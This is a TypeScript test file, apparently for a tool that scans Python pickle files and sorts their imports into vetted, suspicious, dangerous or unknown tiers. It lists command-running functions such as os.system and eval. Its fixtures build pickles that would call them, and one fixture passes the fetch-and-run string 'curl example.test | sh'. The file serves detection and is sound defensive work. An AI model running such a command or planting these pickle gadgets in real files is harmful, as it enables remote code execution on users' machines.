import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assemblePickle } from '../../formats/pickle/assembler.fixture.ts';
import type { PickleFacts } from '../../formats/facts.ts';
import { record } from '../../formats/recordingContext.fixture.ts';
import { readPickle } from '../../formats/pickle/reader.ts';
import { classifyImport, judgeImport, listGroups } from './knownImports.ts';

const tier = (module: string, name: string, opcode?: 'getattr') => classifyImport(module, name, opcode).tier;

describe('classifyImport', () => {
  it('knows what runs commands, however deep the module', () => {
    for (const [module, name] of [
      ['os', 'system'],
      ['posix', 'system'],
      ['asyncio.unix_events', '_UnixSubprocessTransport._start'],
      ['builtins', 'eval'],
      ['torch.hub', 'load'],
      ['numpy.f2py.crackfortran', 'myeval'],
    ] as const) {
      assert.equal(tier(module, name), 'dangerous', `${module}.${name}`);
    }
  });

  it('lets the longest match decide: a vetted name in a dangerous module', () => {
    assert.equal(tier('uuid', 'UUID'), 'vetted');
    assert.equal(tier('uuid', '_load_system_functions'), 'suspicious');
    assert.equal(tier('joblib.numpy_pickle', 'NumpyArrayWrapper'), 'vetted');
    assert.equal(tier('joblib.numpy_pickle', 'load'), 'dangerous');
    assert.equal(tier('pathlib', 'PosixPath'), 'vetted');
    assert.equal(tier('pathlib', 'PosixPath.write_text'), 'dangerous');
    assert.equal(tier('torch.storage', 'UntypedStorage.from_file'), 'dangerous');
  });

  it('follows attributes out of the module they start in', () => {
    assert.equal(tier('random', '_os.system'), 'dangerous');
    assert.equal(tier('torch.serialization', 'os.system'), 'dangerous');
    assert.equal(tier('collections', 'OrderedDict.__class__.__base__'), 'dangerous');
    assert.equal(tier('collections', 'abc.Mapping'), 'suspicious');
  });

  it('takes the special names that every module has for what they lead to', () => {
    assert.equal(tier('collections', '__builtins__'), 'dangerous');
    assert.equal(tier('mypackage', '__dict__'), 'dangerous');
    assert.equal(tier('copyreg', '__newobj__'), 'vetted');
  });

  it('vets methods of vetted classes when getattr takes them, and nothing else', () => {
    assert.equal(tier('torch.nn.modules.linear', 'Linear.forward', 'getattr'), 'vetted');
    assert.equal(tier('torch.nn.modules.linear', 'Linear.forward'), 'suspicious');
    assert.equal(tier('torch.nn.modules.linear', 'Linear.forward.__globals__', 'getattr'), 'dangerous');
  });

  it('vets the classes of a package, not its functions', () => {
    assert.equal(tier('sklearn.svm._classes', 'SVC'), 'vetted');
    assert.equal(tier('sklearn.svm._base', '_libsvm_train'), 'unknown');
  });

  it('says unknown of what is on no list', () => {
    assert.equal(tier('mypackage.models', 'Net'), 'unknown');
    assert.equal(tier('оs', 'system'), 'unknown', 'a Cyrillic letter is another module');
  });
});

describe('judgeImport', () => {
  const judged = (listing: string) => {
    const { imports } = record(readPickle, assemblePickle(`PROTO 4\n${listing}STOP`)).parts[0] as PickleFacts;
    return imports.map((entry) => judgeImport(entry).tier);
  };
  const called = (name: string, argument = "BINUNICODE 'x'") =>
    judged(`GLOBAL somelibrary.io ${name}\n${argument}\nTUPLE1\nREDUCE\n`);

  it('takes a function that is given a text for what it says it does', () => {
    for (const name of [
      'load',
      'open_dataset',
      'read_table',
      'run_command',
      'import_module',
      'from_pretrained',
      '_load',
    ])
      assert.deepEqual(called(name), ['dangerous'], name);
    assert.deepEqual(called('load', "BINBYTES b'data'"), ['dangerous']);
  });

  it('does not, where it is a class, rebuilds from parts, is only referred to or gets no text', () => {
    for (const name of ['Loader', 'LoadBalancer', '_unpickle', '_reconstruct', 'from_dict', 'reader'])
      assert.deepEqual(called(name), ['unknown'], name);
    assert.deepEqual(called('load', 'BININT1 3'), ['unknown']);
    assert.deepEqual(judged('GLOBAL somelibrary.io load\n'), ['unknown']);
  });
});

describe('a method that is taken of an object', () => {
  const getter = 'GLOBAL builtins getattr\n';
  const scheduler = 'GLOBAL torch.optim.lr_scheduler OneCycleLR\nEMPTY_TUPLE\nNEWOBJ\n';
  const taken = (object: string, name: string) => `${getter}${object}BINUNICODE '${name}'\nTUPLE2\nREDUCE\n`;
  const judged = (listing: string) => {
    const { imports } = record(readPickle, assemblePickle(`PROTO 4\n${listing}STOP`)).parts[0] as PickleFacts;
    return imports.map((entry) => `${entry.module}.${entry.name}: ${judgeImport(entry).tier}`);
  };
  const [made, method] = ['torch.optim.lr_scheduler.OneCycleLR', 'torch.optim.lr_scheduler.OneCycleLR._annealing_cos'];

  it('is vetted with its class, as PyTorch keeps the methods of schedulers', () => {
    assert.deepEqual(judged(taken(scheduler, '_annealing_cos')), [`${made}: vetted`, `${method}: vetted`]);
  });

  it('is dangerous where the file calls it, and worth a look where its name says that it loads', () => {
    const called = `${taken(scheduler, '_annealing_cos')}EMPTY_TUPLE\nREDUCE\n`;
    assert.deepEqual(judged(called), [`${made}: vetted`, `${method}: dangerous`]);
    assert.equal(judged(taken(scheduler, 'load_hook'))[1], `${made}.load_hook: suspicious`);
  });

  it('of a class that nobody knows is worth a look, and of a dangerous one dangerous', () => {
    const of = (module: string, name: string) => `GLOBAL ${module} ${name}\nEMPTY_TUPLE\nNEWOBJ\n`;
    assert.equal(judged(taken(of('mine', 'Net'), 'hook'))[1], 'mine.Net.hook: suspicious');
    const tip = judged(taken(of('idlelib.calltip', 'Calltip'), 'fetch_tip'));
    assert.equal(tip[1], 'idlelib.calltip.Calltip.fetch_tip: dangerous');
  });

  it('is anything where the object has an attribute of that name, or may have', () => {
    const own = `${scheduler}EMPTY_DICT\nBINUNICODE 'hook'\nGLOBAL mine run\nSETITEM\nBUILD\n`;
    const unknown = `${scheduler}GLOBAL mine state\nEMPTY_TUPLE\nREDUCE\nBUILD\n`;
    for (const object of [own, unknown])
      assert.ok(judged(taken(object, 'hook')).includes('builtins.getattr: dangerous'), object);
  });
});

describe('a class of a dangerous module', () => {
  it('that is vetted as long as it is made without arguments is dangerous with them', () => {
    const judged = (opcodes: string) => {
      const bytes = assemblePickle(`PROTO 4\nGLOBAL joblib.memory Memory\n${opcodes}STOP`);
      return (record(readPickle, bytes).parts[0] as PickleFacts).imports.map((entry) => judgeImport(entry).tier);
    };
    assert.deepEqual(judged('EMPTY_TUPLE\nNEWOBJ\n'), ['vetted']);
    assert.deepEqual(judged("BINUNICODE '/tmp/x'\nTUPLE1\nREDUCE\n"), ['dangerous']);
  });
});

describe('a function that rebuilds an array by another one', () => {
  it('is judged by that one, which it calls', () => {
    const bytes = assemblePickle(
      "PROTO 4\nGLOBAL dill._dill _create_array\nGLOBAL mine run\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nNONE\nTUPLE3\nREDUCE\nSTOP",
    );
    const { imports } = record(readPickle, bytes).parts[0] as PickleFacts;
    assert.deepEqual(
      imports.map((entry) => [entry.name, judgeImport(entry).tier, entry.call?.slice(0, 20)]),
      [
        ['_create_array', 'vetted', 'dill._dill._create_a'],
        ['run', 'dangerous', "mine.run('curl examp"],
      ],
    );
  });
});

describe('the type of None', () => {
  it('is named, and the call of `type` with it is none of its own', () => {
    const { imports } = record(readPickle, assemblePickle('PROTO 4\nGLOBAL builtins type\nNONE\nTUPLE1\nREDUCE\nSTOP'))
      .parts[0] as PickleFacts;
    assert.deepEqual(
      imports.map((entry) => [entry.module, entry.name, judgeImport(entry).tier]),
      [['types', 'NoneType', 'vetted']],
    );
  });
});

describe('the lists', () => {
  it('give a source and words for every group, and no name twice in one list', () => {
    for (const [list, groups] of Object.entries(listGroups)) {
      const names = groups.flatMap((group) => [...group.names, ...(group.classes ?? [])]);
      const twice = names.filter((name, index) => names.indexOf(name) !== index);
      assert.deepEqual(twice, [], list);
      for (const group of groups) {
        assert.ok(group.source.length > 0, `${list}: ${group.does}`);
        assert.match(group.does, /^[a-z]+s[ ,]/, 'completes "it ..."');
      }
    }
  });

  it('do not contradict one another', () => {
    const all = Object.entries(listGroups).flatMap(([list, groups]) =>
      groups.flatMap((group) => group.names.map((name) => ({ list, name }))),
    );
    const seen = new Map<string, string>();
    for (const { list, name } of all) {
      assert.ok(!seen.has(name), `${name} is in ${seen.get(name)} and in ${list}`);
      seen.set(name, list);
    }
  });
});
